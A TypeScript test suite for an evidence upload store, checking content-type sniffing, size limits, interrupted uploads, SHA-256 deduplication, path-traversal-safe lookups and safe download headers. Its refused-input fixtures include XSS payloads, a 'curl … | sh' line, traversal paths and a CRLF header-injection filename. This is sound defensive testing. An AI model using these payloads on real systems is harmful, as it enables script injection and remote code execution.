// The evidence file store: what gets in (sniffed by content against the allow-list), that a refused,
// oversized, empty or interrupted upload leaves nothing behind, deduplication by SHA-256, reading back
// without path tricks, and download headers that never let a browser render a file inline.
import { createHash } from 'node:crypto';
import { EventEmitter } from 'node:events';
import { mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
import { createServer, request, validateHeaderValue, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { crc32 } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AppError } from '../src/errors.ts';
import { DEFAULT_EVIDENCE_MAX_BYTES, type BlobStore } from '../src/storage/blob-store.ts';
import { safeDownloadHeaders } from '../src/storage/download-headers.ts';
import { createFsBlobStore, STALE_TEMP_MS } from '../src/storage/fs-blob-store.ts';
import { bytesOf, sniffMediaType } from '../src/storage/sniff-media-type.ts';

// ---- fixtures: the smallest files each format's signature and structure allow ----

const bytes = (...parts: (string | number[] | Uint8Array)[]) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));
const u16 = (n: number) => { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b; };
const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32LE(n); return b; };
const sha256Of = (data: Uint8Array) => createHash('sha256').update(data).digest('hex');

/** A zip with every entry stored (uncompressed), as a real archiver writes it: local headers, central directory, end record. */
function zip(entries: [name: string, content: string | Uint8Array][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const data = bytes(content);
    const fileName = Buffer.from(name, 'utf8');
    const common = [u16(20), u16(0x0800), u16(0), u16(0), u16(0x21), u32(crc32(data)), u32(data.length), u32(data.length), u16(fileName.length), u16(0)];
    const local = Buffer.concat([u32(0x04034b50), ...common, fileName, data]);
    centrals.push(Buffer.concat([u32(0x02014b50), u16(20), ...common, u16(0), u16(0), u16(0), u32(0), u32(offset), fileName]));
    locals.push(local);
    offset += local.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.concat([u32(0x06054b50), u16(0), u16(0), u16(entries.length), u16(entries.length), u32(directory.length), u32(offset), u16(0)]);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const ooxml = (mainPart: string, ...more: [string, string | Uint8Array][]) =>
  zip([['[Content_Types].xml', CONTENT_TYPES], ['_rels/.rels', '<Relationships/>'], ...more, [mainPart, '<document/>']]);

interface OleEntry {
  name: string;
  children?: OleEntry[]; // a storage when present, a stream otherwise
}

/**
 * An OLE compound file (version 3, 512-byte sectors): sector 0 the FAT, then `padding` unused sectors,
 * then the directory. Each storage's children are linked as a balanced tree of left/right siblings,
 * as the format requires.
 */
function ole(children: OleEntry[], padding = 0): Buffer {
  const FREE = 0xffffffff;
  const END = 0xfffffffe;
  const records: { name: string; type: number; left: number; right: number; child: number }[] = [];
  const add = (name: string, type: number) => records.push({ name, type, left: FREE, right: FREE, child: FREE }) - 1;
  const tree = (entries: OleEntry[]): number => {
    if (!entries.length) return FREE;
    const middle = Math.floor(entries.length / 2);
    const entry = entries[middle]!;
    const id = add(entry.name, entry.children ? 1 : 2);
    records[id]!.child = entry.children ? tree(entry.children) : FREE;
    records[id]!.left = tree(entries.slice(0, middle));
    records[id]!.right = tree(entries.slice(middle + 1));
    return id;
  };
  add('Root Entry', 5);
  records[0]!.child = tree(children);

  const directorySectors = Math.ceil(records.length / 4);
  const firstDirectory = 1 + padding;
  const fat = Buffer.alloc(512, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0 is the FAT itself
  for (let i = 0; i < directorySectors; i++) fat.writeUInt32LE(i === directorySectors - 1 ? END : firstDirectory + i + 1, (firstDirectory + i) * 4);

  const directory = Buffer.alloc(directorySectors * 512);
  records.forEach((record, i) => {
    const at = i * 128;
    const name = Buffer.from(`${record.name}\0`, 'utf16le');
    name.copy(directory, at);
    directory.writeUInt16LE(name.length, at + 0x40);
    directory[at + 0x42] = record.type;
    directory[at + 0x43] = 1; // black
    directory.writeUInt32LE(record.left, at + 0x44);
    directory.writeUInt32LE(record.right, at + 0x48);
    directory.writeUInt32LE(record.child, at + 0x4c);
    directory.writeUInt32LE(END, at + 0x74);
  });

  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c); // one FAT sector
  header.writeUInt32LE(firstDirectory, 0x30);
  header.writeUInt32LE(4096, 0x38);
  header.writeUInt32LE(END, 0x3c);
  header.writeUInt32LE(END, 0x44);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : FREE, 0x4c + i * 4);
  return Buffer.concat([header, fat, Buffer.alloc(padding * 512), directory]);
}
const stream = (name: string): OleEntry => ({ name });
const storage = (name: string, children: OleEntry[]): OleEntry => ({ name, children });
const SUMMARY = [stream('\u0005SummaryInformation'), stream('\u0005DocumentSummaryInformation'), stream('\u0001CompObj')];

const PDF = bytes('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9]);
const GIF = bytes('GIF89a', [1, 0, 1, 0, 0, 0, 0, 0x3b]);
const WEBP = bytes('RIFF', u32(12), 'WEBP', 'VP8L', u32(0));
const CSV = bytes('设备名称,评分\n数控机床,3\n');
const LARGE_MEDIA = Buffer.alloc(100 * 1024, 7);

const allowed: [string, Uint8Array, string, string][] = [
  ['a PDF', PDF, 'application/pdf', 'pdf'],
  ['a PNG', PNG, 'image/png', 'png'],
  ['a JPEG', JPEG, 'image/jpeg', 'jpg'],
  ['a GIF87a', bytes('GIF87a', [1, 0, 1, 0, 0, 0, 0, 0x3b]), 'image/gif', 'gif'],
  ['a GIF89a', GIF, 'image/gif', 'gif'],
  ['a WebP', WEBP, 'image/webp', 'webp'],
  ['a DOCX', ooxml('word/document.xml'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docx'],
  ['an XLSX', ooxml('xl/workbook.xml'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
  ['a PPTX', ooxml('ppt/presentation.xml'), 'application/vnd.openxmlformats-officedocument.presentationml.presentation', 'pptx'],
  ['a DOCX whose main part and directory lie beyond the first 8 KB', ooxml('word/document.xml', ['word/media/image1.png', LARGE_MEDIA]), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docx'],
  ['a DOC', ole([...SUMMARY, stream('WordDocument'), stream('1Table')]), 'application/msword', 'doc'],
  ['an XLS (Workbook)', ole([...SUMMARY, stream('Workbook')]), 'application/vnd.ms-excel', 'xls'],
  ['an XLS (Excel 5 "Book")', ole([stream('Book')]), 'application/vnd.ms-excel', 'xls'],
  ['a PPT', ole([...SUMMARY, stream('PowerPoint Document'), stream('Current User')]), 'application/vnd.ms-powerpoint', 'ppt'],
  ['a DOC whose directory lies beyond the first 8 KB', ole([...SUMMARY, stream('WordDocument')], 20), 'application/msword', 'doc'],
  ['a DOC embedding a spreadsheet (only the root\'s streams count)', ole([stream('WordDocument'), storage('ObjectPool', [storage('_1234', [stream('Workbook')])])]), 'application/msword', 'doc'],
  ['a UTF-8 CSV with Chinese', CSV, 'text/csv', 'csv'],
  ['a UTF-8 CSV with a BOM (as Excel writes "CSV UTF-8")', bytes([0xef, 0xbb, 0xbf], '名称,得分\n'), 'text/csv', 'csv'],
  ['plain text with a character across the 64 KB read boundary', bytes('a'.repeat(65535), '中\n'), 'text/csv', 'csv'],
];

const refused: [string, Uint8Array][] = [
  ['HTML', bytes('<!DOCTYPE html><html><script>alert(document.cookie)</script></html>')],
  ['HTML after whitespace and a BOM', bytes([0xef, 0xbb, 0xbf], ' \r\n\t<html><body onload="alert(1)">')],
  ['HTML after 70 000 spaces', bytes(' '.repeat(70_000), '<script>alert(1)</script>')],
  ['SVG', bytes('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['bare SVG', bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
  ['XML', bytes('<?xml version="1.0"?><root/>')],
  ['a shell script', bytes('#!/bin/sh\ncurl http://example.invalid | sh\n')],
  ['a Windows executable', bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0], 'This program cannot be run in DOS mode.')],
  ['an ELF executable', bytes([0x7f], 'ELF', [2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0])],
  ['a self-extracting archive (MZ + an office zip)', bytes('MZ', [0, 0, 0, 0], ooxml('word/document.xml'))],
  ['a plain zip', zip([['notes.txt', 'hello'], ['data.csv', 'a,b\n']])],
  ['a zip with a main part but no [Content_Types].xml', zip([['word/document.xml', '<document/>']])],
  ['a macro-enabled DOCM', ooxml('word/document.xml', ['word/vbaProject.bin', 'VBA'])],
  ['a zip claiming two formats', zip([['[Content_Types].xml', CONTENT_TYPES], ['word/document.xml', '<d/>'], ['xl/workbook.xml', '<w/>']])],
  ['a truncated zip', ooxml('word/document.xml').subarray(0, 60)],
  ['an OLE file without an office stream (an installer, a mail)', ole([...SUMMARY, stream('\u4840\u3f3f\u4177')])],
  ['an OLE file with two office streams', ole([stream('WordDocument'), stream('Workbook')])],
  ['a DOC with macros', ole([stream('WordDocument'), storage('Macros', [stream('VBA')])])],
  ['an XLS with macros', ole([stream('Workbook'), storage('_VBA_PROJECT_CUR', [stream('VBA')])])],
  ['a truncated OLE header', ole([stream('WordDocument')]).subarray(0, 300)],
  ['GBK text (Chinese Excel\'s default CSV)', Buffer.from([0xc9, 0xe8, 0xb1, 0xb8, 0x2c, 0xc6, 0xc0, 0xb7, 0xd6, 0x0a])],
  ['UTF-16 text', Buffer.from('\ufeff名称,得分\n', 'utf16le')],
  ['UTF-8 cut off mid-character', bytes('名称,得分\n', [0xe4, 0xb8])],
  ['text with a NUL byte', bytes('a,b\n', [0], 'c,d\n')],
];

// ---- helpers ----

async function* chunksOf(data: Uint8Array, size = 1000): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < data.length; at += size) yield data.subarray(at, at + size);
}

async function refusedWith(promise: Promise<unknown>, code: string): Promise<AppError> {
  const error = await promise.then(
    () => {
      throw new Error(`expected ${code}, but it was stored`);
    },
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).code).toBe(code);
  return error as AppError;
}

/** Every file under a directory, relative paths. */
async function filesUnder(dir: string): Promise<string[]> {
  const found: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) found.push(...(await filesUnder(path)).map((p) => join(entry.name, p)));
    else found.push(entry.name);
  }
  return found.sort();
}

describe('the file-system evidence store', () => {
  let root: string;
  let store: BlobStore;
  const put = (data: Uint8Array, maxBytes = DEFAULT_EVIDENCE_MAX_BYTES) => store.put(chunksOf(data), { maxBytes });
  const expectNothingStored = async () => expect(await filesUnder(root)).toEqual([]);

  beforeEach(async () => {
    root = join(await mkdtemp(join(tmpdir(), 'cmmm-blobs-')), 'evidence'); // created by the store
    store = await createFsBlobStore(root);
  });
  afterEach(async () => {
    await rm(join(root, '..'), { recursive: true, force: true });
  });

  describe('accepts by content', () => {
    it.each(allowed)('%s', async (_name, data, mediaType, extension) => {
      const blob = await put(data);
      expect(blob).toEqual({ sha256: sha256Of(data), size: data.length, mediaType, extension, created: true });
      expect(await filesUnder(root)).toEqual([join(blob.sha256.slice(0, 2), blob.sha256)]);
      expect(await readFile(join(root, blob.sha256.slice(0, 2), blob.sha256))).toEqual(Buffer.from(data));
    });

    it('whatever the chunking: one byte at a time gives the same blob', async () => {
      const data = ooxml('xl/workbook.xml');
      expect(await store.put(chunksOf(data, 1), { maxBytes: DEFAULT_EVIDENCE_MAX_BYTES })).toMatchObject({ sha256: sha256Of(data), extension: 'xlsx' });
    });

    it('keeps the file readable by the server\'s user only', async () => {
      if (process.platform === 'win32') return;
      const blob = await put(PDF);
      expect((await stat(join(root, blob.sha256.slice(0, 2), blob.sha256))).mode & 0o777).toBe(0o600);
    });
  });

  describe('refuses by content, leaving nothing', () => {
    it.each(refused)('%s', async (_name, data) => {
      await refusedWith(put(data), 'FILE_TYPE_NOT_ALLOWED');
      await expectNothingStored();
    });

    it('the sniffer alone, on bytes in memory, agrees with the store', async () => {
      for (const [, data, mediaType, extension] of allowed) expect(await sniffMediaType(bytesOf(data))).toEqual({ mediaType, extension });
      for (const [, data] of refused) expect(await sniffMediaType(bytesOf(data))).toBeNull();
    });
  });

  describe('sizes', () => {
    it('refuses an empty file, with or without empty chunks', async () => {
      await refusedWith(put(new Uint8Array(0)), 'FILE_EMPTY');
      async function* emptyChunks() {
        yield new Uint8Array(0);
        yield new Uint8Array(0);
      }
      await refusedWith(store.put(emptyChunks(), { maxBytes: 10 }), 'FILE_EMPTY');
      await expectNothingStored();
    });

    it('accepts exactly maxBytes and refuses maxBytes + 1', async () => {
      const data = bytes('a,b\n'.repeat(256)); // 1024 bytes
      await refusedWith(put(data, data.length - 1), 'FILE_TOO_LARGE');
      await expectNothingStored();
      expect(await put(data, data.length)).toMatchObject({ size: data.length, created: true });
    });

    it('stops reading as soon as the limit is passed, and tells the source to stop', async () => {
      let pulled = 0;
      let stopped = false;
      async function* endless() {
        try {
          for (;;) {
            pulled++;
            yield new Uint8Array(1024).fill(0x61);
          }
        } finally {
          stopped = true;
        }
      }
      await refusedWith(store.put(endless(), { maxBytes: 10 * 1024 }), 'FILE_TOO_LARGE');
      expect(pulled).toBe(11); // ten chunks fill the limit exactly, the eleventh passes it
      expect(stopped).toBe(true);
      await expectNothingStored();
    });

    it('refuses a limit that is not a positive whole number of bytes', async () => {
      for (const maxBytes of [0, -1, 1.5, Number.NaN]) await expect(put(PDF, maxBytes)).rejects.toBeInstanceOf(RangeError);
      await expectNothingStored();
    });

    it('defaults to 20 MB', () => {
      expect(DEFAULT_EVIDENCE_MAX_BYTES).toBe(20 * 1024 * 1024);
    });
  });

  describe('interrupted uploads leave nothing', () => {
    it('when the source throws midway', async () => {
      const failure = new Error('socket hang up');
      async function* failing() {
        yield PDF.subarray(0, 10);
        throw failure;
      }
      const error = await refusedWith(store.put(failing(), { maxBytes: 1000 }), 'UPLOAD_INTERRUPTED');
      expect(error.cause).toBe(failure);
      await expectNothingStored();
    });

    it('when a stream emits \'aborted\' and then ends as if complete', async () => {
      const source = new Readable({
        read() {
          this.push(PDF.subarray(0, 10));
          this.emit('aborted');
          this.push(null);
        },
      });
      await refusedWith(store.put(source, { maxBytes: 1000 }), 'UPLOAD_INTERRUPTED');
      await expectNothingStored();
    });

    it('when a source emits \'aborted\' and then never ends', async () => {
      class Hanging extends EventEmitter implements AsyncIterable<Uint8Array> {
        async *[Symbol.asyncIterator]() {
          yield PDF.subarray(0, 10);
          queueMicrotask(() => this.emit('aborted'));
          await new Promise(() => {}); // the next chunk never comes
        }
      }
      await refusedWith(store.put(new Hanging(), { maxBytes: 1000 }), 'UPLOAD_INTERRUPTED');
      await expectNothingStored();
    });

    it('when a source ends as if complete but marks itself aborted (no event)', async () => {
      const source = {
        aborted: false,
        async *[Symbol.asyncIterator]() {
          yield PDF.subarray(0, 10);
          source.aborted = true;
        },
      };
      await refusedWith(store.put(source, { maxBytes: 1000 }), 'UPLOAD_INTERRUPTED');
      await expectNothingStored();
    });

    it('when a real HTTP client goes away mid-body', async () => {
      const server = createServer();
      // Wrapped: a promise resolved with a promise would wait for it.
      const received = new Promise<{ outcome: Promise<unknown> }>((resolve) =>
        server.once('request', (req: IncomingMessage) => resolve({ outcome: store.put(req, { maxBytes: 1_000_000 }) })),
      );
      await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
      try {
        const client = request({ port: (server.address() as AddressInfo).port, host: '127.0.0.1', method: 'POST', headers: { 'content-length': '100000' } });
        client.on('error', () => {}); // the reset we cause
        client.write(PDF); // of the 100 000 bytes announced
        const { outcome } = await received;
        client.destroy();
        await refusedWith(outcome, 'UPLOAD_INTERRUPTED');
        await expectNothingStored();
      } finally {
        server.closeAllConnections();
        await new Promise((closed) => server.close(closed));
      }
    });
  });

  describe('deduplication', () => {
    it('stores the same content once, and says so the second time', async () => {
      const first = await put(CSV);
      const second = await store.put(chunksOf(CSV, 7), { maxBytes: 1000 });
      expect(first.created).toBe(true);
      expect(second).toEqual({ ...first, created: false });
      expect(await filesUnder(root)).toEqual([join(first.sha256.slice(0, 2), first.sha256)]);
    });

    it('of simultaneous identical uploads exactly one creates the file', async () => {
      const results = await Promise.all([1, 2, 3, 4, 5].map(() => put(PNG)));
      expect(results.filter((r) => r.created)).toHaveLength(1);
      expect(new Set(results.map((r) => r.sha256))).toEqual(new Set([sha256Of(PNG)]));
      expect(await filesUnder(root)).toHaveLength(1);
    });

    it('different content, different blobs', async () => {
      const [a, b] = [await put(PNG), await put(GIF)];
      expect(a.sha256).not.toBe(b.sha256);
      expect(await filesUnder(root)).toHaveLength(2);
    });
  });

  describe('reading back', () => {
    it('streams the stored bytes with their size', async () => {
      const data = ooxml('ppt/presentation.xml', ['ppt/media/image1.png', LARGE_MEDIA]);
      const blob = await put(data);
      const { stream, size } = await store.open(blob.sha256);
      expect(size).toBe(data.length);
      const chunks: Buffer[] = [];
      for await (const chunk of stream) chunks.push(chunk as Buffer);
      expect(Buffer.concat(chunks)).toEqual(data);
      expect(await store.has(blob.sha256)).toBe(true);
    });

    it('answers NOT_FOUND for an unknown hash, and for anything that is not one — never a path', async () => {
      const blob = await put(CSV);
      // A file a traversal would reach, were the hash taken as a path.
      await writeFile(join(root, '..', 'secret.txt'), 'secret');
      const notHashes = ['', 'ab', blob.sha256.toUpperCase(), `${blob.sha256}0`, `../${'0'.repeat(61)}`, `../../secret.txt`, `${blob.sha256.slice(0, 2)}/${blob.sha256}`, `${'0'.repeat(63)}\0`, 'tmp'];
      for (const hash of [sha256Of(bytes('never stored')), ...notHashes]) {
        await refusedWith(store.open(hash), 'NOT_FOUND');
        expect(await store.has(hash)).toBe(false);
      }
      expect(await text((await store.open(blob.sha256)).stream)).toBe(CSV.toString('utf8'));
    });
  });

  describe('starting up', () => {
    it('removes temp files left by a crash, but not one another process is writing right now', async () => {
      const blob = await put(PDF);
      const tmp = join(root, 'tmp');
      await writeFile(join(tmp, 'crashed.part'), PDF.subarray(0, 5));
      const past = new Date(Date.now() - STALE_TEMP_MS - 60_000);
      await utimes(join(tmp, 'crashed.part'), past, past);
      await writeFile(join(tmp, 'in-progress.part'), PDF.subarray(0, 5));
      await createFsBlobStore(root);
      expect(await readdir(tmp)).toEqual(['in-progress.part']);
      expect(await store.has(blob.sha256)).toBe(true);
    });

    it('creates the directories it needs', async () => {
      const nested = join(root, 'a', 'b');
      const other = await createFsBlobStore(nested);
      expect((await stat(join(nested, 'tmp'))).isDirectory()).toBe(true);
      expect((await other.put(chunksOf(GIF), { maxBytes: 100 })).created).toBe(true);
    });
  });
});

describe('download headers', () => {
  const contentDisposition = (headers: Record<string, string>) => {
    const match = /^attachment; filename="([^"]*)"; filename\*=UTF-8''([A-Za-z0-9!#$&+\-.^_`|~%]+)$/.exec(headers['content-disposition']!);
    expect(match).not.toBeNull();
    return { fallback: match![1]!, name: decodeURIComponent(match![2]!) };
  };

  it('forbid inline rendering and carry the sniffed type', () => {
    expect(safeDownloadHeaders('证明.pdf', 'application/pdf', 1234)).toEqual({
      'content-type': 'application/pdf',
      'content-length': '1234',
      'content-disposition': expect.stringMatching(/^attachment;/),
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
      'cache-control': 'private, no-store',
    });
    expect(safeDownloadHeaders('a.csv', 'text/csv', 1)['content-type']).toBe('text/csv; charset=utf-8');
  });

  it('give a Chinese name as RFC 5987 UTF-8 with an ASCII fallback', () => {
    const headers = safeDownloadHeaders('2026年 智能制造能力成熟度 评估证据.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 10);
    expect(contentDisposition(headers)).toEqual({ name: '2026年 智能制造能力成熟度 评估证据.xlsx', fallback: '2026.xlsx' });
    expect(contentDisposition(safeDownloadHeaders('评估报告.pdf', 'application/pdf', 10))).toEqual({ name: '评估报告.pdf', fallback: 'download.pdf' });
  });

  it('cannot be broken by quotes, line breaks, percent signs or direction overrides in the name', () => {
    const hostile = 'a"b\\c\r\nSet-Cookie: x=1\n%22\u202Efdp.exe\u0000.pdf';
    const headers = safeDownloadHeaders(hostile, 'application/pdf', 10);
    for (const [name, value] of Object.entries(headers)) expect(() => validateHeaderValue(name, value)).not.toThrow();
    const { name, fallback } = contentDisposition(headers);
    expect(name).toBe('a_b_cSet-Cookie_ x=1%22fdp.exe.pdf');
    expect(fallback).toBe('a_b_cSet-Cookie_ x=1_22fdp.exe.pdf');
    expect(headers['content-disposition']).not.toMatch(/[\r\n\u202E]/);
  });

  it('end the name in an extension that matches the content', () => {
    const name = (fileName: string, mediaType: string) => contentDisposition(safeDownloadHeaders(fileName, mediaType, 1)).name;
    expect(name('report.html', 'text/csv')).toBe('report.html.csv');
    expect(name('数据.TXT', 'text/csv')).toBe('数据.TXT');
    expect(name('photo.JPEG', 'image/jpeg')).toBe('photo.JPEG');
    expect(name('photo.png', 'image/jpeg')).toBe('photo.png.jpg');
    expect(name('no extension', 'application/msword')).toBe('no extension.doc');
    expect(name('../../etc/passwd', 'application/pdf')).toBe('_.._etc_passwd.pdf');
    expect(name('', 'application/pdf')).toBe('download.pdf');
    expect(name('...', 'application/pdf')).toBe('download.pdf');
    expect([...name('长'.repeat(500) + '.pdf', 'application/pdf')]).toHaveLength(124);
  });

  it('serve a type outside the allow-list as opaque bytes', () => {
    expect(safeDownloadHeaders('page.html', 'text/html', 5)['content-type']).toBe('application/octet-stream');
  });
});
